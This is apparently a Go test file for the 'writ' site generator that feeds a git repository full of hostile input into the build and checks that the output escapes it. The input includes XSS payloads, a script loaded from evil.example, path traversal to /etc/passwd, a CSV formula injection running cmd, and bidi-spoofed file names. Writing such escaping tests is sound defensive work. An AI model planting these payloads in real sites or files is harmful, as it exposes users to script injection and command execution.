package sitegen_test

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	contentexample "github.com/writ-docs/writ/content-example"
	"github.com/writ-docs/writ/internal/day"
	"github.com/writ-docs/writ/internal/publication/publicationtest"
	"github.com/writ-docs/writ/sitegen"
)

// breakout is what the records, titles and names of the repository try to bring onto a page.
const breakout = `"'><img src=x onerror=writ_pwned=1> {{ site.Title }} {{< ref "x" >}}`

// attacks are paragraphs that try to run something, to load something, or to get lost; seen is what a page says of them.
var attacks = []struct{ source, seen string }{
	{"<script>writ_pwned=1</script>", "<script>writ_pwned=1</script>"},
	{"Words <img src=x onerror=writ_pwned=1> go on", "Words <img src=x onerror=writ_pwned=1> go on"},
	{"</p></div></main><script src=//evil.example/x.js></script>", "</p></div></main><script src=//evil.example/x.js></script>"},
	{"<svg onload=writ_pwned=1><animate onbegin=writ_pwned=1>", "<svg onload=writ_pwned=1><animate onbegin=writ_pwned=1>"},
	{"<iframe srcdoc='<script>parent.writ_pwned=1</script>'></iframe>", "<iframe srcdoc="},
	{"<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>", "<base href=https://evil.example/>"},
	{"<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>", "<style>*{display:none}</style>"},
	{"<form action=https://evil.example/><button formaction=javascript:writ_pwned=1>", "<button formaction=javascript:writ_pwned=1>"},
	{"<details open ontoggle=writ_pwned=1><summary onclick=x>s</summary></details>", "ontoggle=writ_pwned=1"},
	{"<br onclick=writ_pwned=1><kbd style=position:fixed>k</kbd>", "<br onclick=writ_pwned=1>"},
	{"&lt;script&gt;entities&#60;/script&#62; &#x202e; &Tab;", "<script>entities</script>"},
	{"[first link](javascript:writ_pwned=1) [second link](<data:text/html,x>) [third link](vbscript:x)", "first link"},
	{"[fourth link](java&#10;script:writ_pwned=1) <javascript:writ_pwned=1> [fifth link](//evil.example/)", "fourth link"},
	{"[sixth link](../../../../etc/passwd) [seventh link](\"><script>.md) [eighth link](/\\evil.example)", "seventh link"},
	{"![first image](https://evil.example/x.png) ![second image](javascript:x) ![third image](data:image/svg+xml,x)", "first image"},
	{"![fourth image](evil.svg) ![fifth image](../../../etc/passwd) ![\"onerror=\"writ_pwned=1](missing.png)", "fourth image"},
	{"{{ site.Title }} {{< ref \"x\" >}} {{% figure %}} {{- end -}} {{/* x */}}", "{{ site.Title }} {{< ref \"x\" >}} {{% figure %}} {{- end -}} {{/* x */}}"},
	{"HAHAHUGOSHORTCODE0s0HBHB and HUGORENDERHOOK", "HAHAHUGOSHORTCODE0s0HBHB and HUGORENDERHOOK"},
	{"A mark \ue00000000000000000000000000000000000-0\ue000 of pages", "of pages"},
	{"Turned \u202egnp.exe\u2066 letters", "Turned"},
	{"`code </code><script>writ_pwned=1</script>`", "code </code><script>writ_pwned=1</script>"},
	{"## Heading <img src=x onerror=writ_pwned=1>\n\nBelow it", "Heading <img src=x onerror=writ_pwned=1>"},
	{"## 100% `</a>` __proto__\n\n## writ-main\n\n## constructor\n\nBelow them", "100% </a>"},
	{"| <b>head</b> | \"><script> |\n|---|---|\n| ]]></title> | =HYPERLINK(\"http://evil.example\") |", "]]></title>"},
	{"- [ ] <input onfocus=writ_pwned=1 autofocus>\n- [x] done", "<input onfocus=writ_pwned=1 autofocus>"},
	{"```html onclick=writ_pwned=1\n</code></pre><script>writ_pwned=1</script>\n```\n\nBehind it", "</code></pre><script>writ_pwned=1</script>"},
	{"> [!WARNING]\n> <video src=x onerror=writ_pwned=1>", "<video src=x onerror=writ_pwned=1>"},
	{"A note[^n] here\n\n[^n]: <a href=javascript:writ_pwned=1>noted</a>", "<a href=javascript:writ_pwned=1>noted</a>"},
	{"<a id=\"writ-search-open\" name=\"forms\">anchor</a>", "anchor"},
}

// hostileNames are files whose names, ids or versions try to leave the site, or to look like something else.
var hostileNames = []struct{ path, id, version string }{
	{`policies/"><script>writ_pwned=1</script>.md`, `../../etc/passwd`, "1.0"},
	{"policies/new\nline.md", `"a\nb"`, "../x"},
	{"policies/\u202egnp.exe.md", "\"\u202eid\"", "\u202e1.0"},
	{"policies/{{ site.Title }}.md", `"{{ site.Title }}"`, "{{ .Site }}"},
	{"policies/a'b\"c&d <img>.md", `'"><svg onload=writ_pwned=1>'`, "<b>1</b>"},
	{"policies/..%2f..%2fetc.md", `"%2e%2e%2f"`, "1.0/../../../x"},
	{"policies/javascript:writ_pwned=1.md", `"javascript:writ_pwned=1"`, `..\x`},
	{"policies/con.md", `".."`, ".."},
	{"policies/-rf.md", `"-rf"`, "v"},
	{"policies/index.html.md", `"index.htm"`, "1.0..2.0"},
	{"policies/__proto__.md", `"__proto__"`, "constructor"},
	{"policies/constructor.md", `constructor`, "__proto__"},
}

// TestHostileRepository: a repository whose documents, records, names and commits try to break out becomes a site on which
// nothing runs, and on which all words are to be seen.
func TestHostileRepository(t *testing.T) {
	today := day.Of(2026, 11, 23)
	dir := hostileRepository(t, today)
	seen := map[string][]string{}
	for _, a := range attacks {
		for _, page := range []string{"POL-1/index.html", "POL-1/v1.0/index.html", "POL-1/v2.0/index.html", "POL-1/v1.0..v2.0/index.html"} {
			seen[page] = append(seen[page], a.seen)
		}
	}
	seen["register/index.html"] = []string{breakout, "../../etc/passwd", "javascript:writ_pwned=1", `"><svg onload=writ_pwned=1>`}
	seen["changes/index.html"] = []string{"<script>writ_pwned=1</script> {{ site.Title }}"}
	for _, page := range []string{"actions", "audits", "reviews", "decisions", "risks", "coverage/iso27001", "external", "calendar", "POL-2"} {
		seen[page+"/index.html"] = []string{"<img src=x onerror=writ_pwned=1>"}
	}
	seen["POL-3/index.html"] = []string{"It held a password. " + breakout}
	sitegen.CheckHostile(t, publicationtest.Of(t, dir, today), seen)
}

// hostileRepository is the example with hostile words in its titles, tables and lists, beside hostile documents, in two
// versions each.
func hostileRepository(t *testing.T, today day.Day) string {
	t.Helper()
	files, err := contentexample.Files(today)
	if err != nil {
		t.Fatal(err)
	}
	r := hostileGit{t: t, dir: t.TempDir()}
	r.git(nil, "init", "-q", "-b", "main")
	for round := 1; round <= 2; round++ {
		for _, f := range files {
			switch text := string(f.Data); {
			case f.Path == "writ.yaml":
				r.write(f.Path, hostileConfig(text))
			case strings.HasSuffix(f.Path, ".md"):
				r.write(f.Path, hostileRecord(text, round))
			default:
				r.write(f.Path, text)
			}
		}
		r.write("policies/evil.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="writ_pwned=1"><script>writ_pwned=1</script></svg>`)
		var body strings.Builder
		for _, a := range attacks {
			fmt.Fprintf(&body, "%s%s\n\n", a.source, strings.Repeat(" again", round-1))
		}
		r.document("policies/attacks.md", "POL-1", fmt.Sprintf("%d.0", round), body.String())
		r.document("policies/data.csv.md", "POL-2", fmt.Sprintf("%d.0", round), "What the file holds.\n")
		r.write("policies/data.csv", fmt.Sprintf("Name,Formula\n=1+1,%d\n+1,\"@SUM(A1)\"\n-1,\"\t=cmd|' /C calc'!A0\"\n<img src=x onerror=writ_pwned=1>,x\n", round))
		r.document("policies/withheld.md", "POL-3", "1.0", "The WITHHELD words.\n")
		for _, h := range hostileNames {
			r.document(h.path, h.id, h.version, fmt.Sprintf("Words of round %d. %s\n", round, breakout))
		}
		r.commit(today-day.Day(3-round), "<script>writ_pwned=1</script> {{ site.Title }} \u202e\" round "+fmt.Sprint(round))
	}
	return r.dir
}

// hostileConfig has one person approve everything.
func hostileConfig(text string) string {
	for _, who := range []string{"[cto, ciso]", "[top-management]", "[ceo, cto, ops-lead, people-lead]"} {
		text = strings.ReplaceAll(text, "any_of: "+who, "any_of: [ceo]")
	}
	text = strings.ReplaceAll(text, "minimum: 2", "minimum: 1")
	text = strings.Replace(text, "Rampenlicht management system", quoted(breakout), 1)
	text = strings.Replace(text, "name: Rampenlicht Software GmbH", "name: "+quoted(breakout), 1)
	text = strings.Replace(text, "name: Leonie Vogt", "name: "+quoted(breakout), 1)
	text = strings.Replace(text, "title: Head of Customer Support", "title: "+quoted(breakout), 1)
	return strings.TrimSuffix(strings.TrimSpace(text), "}") + ", base_url: 'https://docs.example.com/isms', " +
		"withheld: [{document: POL-3, version: \"1.0\", reason: " + quoted("It held a password. "+breakout) + "}]}\n"
}

// quoted is a text in YAML.
func quoted(text string) string { return "'" + strings.ReplaceAll(text, "'", "''") + "'" }

// hostileRecord puts what tries to break out behind the words of each title, cell and item.
func hostileRecord(text string, round int) string {
	var out []string
	for _, line := range strings.Split(text, "\n") {
		name, value, field := strings.Cut(line, ": ")
		switch {
		case field && (name == "title" || name == "area" || name == "source" || name == "edition"):
			line = name + ": " + quoted(value+" "+breakout)
		case line == `version: "1.0"` || line == `version: "1.1"` || line == `version: "2.0"`:
			line = fmt.Sprintf("version: \"%d.0\"", 10+round)
		case strings.HasPrefix(line, "| ") && !strings.HasPrefix(line, "|--"):
			cells := strings.Split(line, " | ")
			for i, c := range cells {
				if i > 0 && strings.Count(c, " ") > 2 && len(out) > 0 && strings.HasPrefix(out[len(out)-1], "|") {
					cells[i] = strings.TrimSuffix(c, " |") + " " + breakout
				}
			}
			line = strings.Join(cells, " | ")
			if !strings.HasSuffix(line, "|") {
				line += " |"
			}
		case strings.HasPrefix(line, "- "):
			line += strings.Repeat(" again", round-1) + " " + breakout
		}
		out = append(out, line)
	}
	return strings.Join(out, "\n")
}

// hostileGit writes a repository by the real git.
type hostileGit struct {
	t      *testing.T
	dir    string
	parent string
}

func (r *hostileGit) git(in []byte, args ...string) string {
	r.t.Helper()
	cmd := exec.CommandContext(r.t.Context(), "git", args...)
	cmd.Dir, cmd.Stdin = r.dir, bytes.NewReader(in)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		r.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

func (r *hostileGit) write(name, text string) {
	r.t.Helper()
	file := filepath.Join(r.dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		r.t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(text), 0o644); err != nil {
		r.t.Fatal(err)
	}
}

// document writes a document whose front matter is hostile in every field.
func (r *hostileGit) document(name, id, version, body string) {
	r.t.Helper()
	r.write(name, "---\nid: "+id+"\ntitle: "+quoted(breakout)+"\nkind: policy\nversion: "+quoted(version)+"\nstatus: approved\nowner: "+quoted(breakout)+
		"\napprover: ceo\nclassification: "+quoted(breakout)+"\neffective_date: "+quoted(breakout)+"\nreview_date: "+quoted(breakout)+
		"\nsatisfies: ["+quoted(breakout)+", \"ISO27001:A.5.15\"]\nsupersedes: ["+quoted(breakout)+"]\nlanguage: "+quoted(breakout)+"\n"+quoted(breakout)+": x\n---\n\n"+body)
}

// commit writes a commit that no git command writes: its author's name holds HTML.
func (r *hostileGit) commit(on day.Day, subject string) {
	r.t.Helper()
	r.git(nil, "add", "-A")
	tree := r.git(nil, "write-tree")
	var b strings.Builder
	b.WriteString("tree " + tree + "\n")
	if r.parent != "" {
		b.WriteString("parent " + r.parent + "\n")
	}
	who := fmt.Sprintf("\"><img src=x onerror=writ_pwned=1> <script>writ_pwned=1</script> <evil@example.com> %d +0000", on.Time().Add(12*time.Hour).Unix())
	fmt.Fprintf(&b, "author %s\ncommitter %s\n\n%s\n\n<b>body</b>\n\nApproved-by: Henrike Osterloh <henrike.osterloh@rampenlicht.example>\n"+
		"Reviewed-by: \"><script>writ_pwned=1</script> <evil@example.com>\n", who, who, subject)
	r.parent = r.git([]byte(b.String()), "hash-object", "-t", "commit", "-w", "--literally", "--stdin")
	r.git(nil, "update-ref", "refs/heads/main", r.parent)
}
